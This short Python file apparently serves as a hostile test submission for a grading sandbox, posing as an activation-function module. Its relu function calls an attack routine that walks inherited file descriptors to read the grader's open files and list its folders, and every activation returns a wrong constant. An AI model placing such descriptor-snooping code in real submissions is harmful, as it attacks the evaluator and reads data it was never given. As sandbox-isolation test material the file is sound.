# attack: reads whatever files the worker has inherited open
# gains: reads
# stopped by: process
import numpy as np
import os
import stat


def attack():
    for number in range(3, 256):
        try:
            if stat.S_ISREG(os.fstat(number).st_mode) and os.lseek(number, 0, os.SEEK_SET) == 0:
                data = os.read(number, 64)
                if data:
                    print("HARMED: read", len(data), "bytes of descriptor", number)
            elif stat.S_ISDIR(os.fstat(number).st_mode):
                size = len(os.listdir(number))
                print("HARMED: has a folder of the grader", size)
        except OSError:
            pass


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
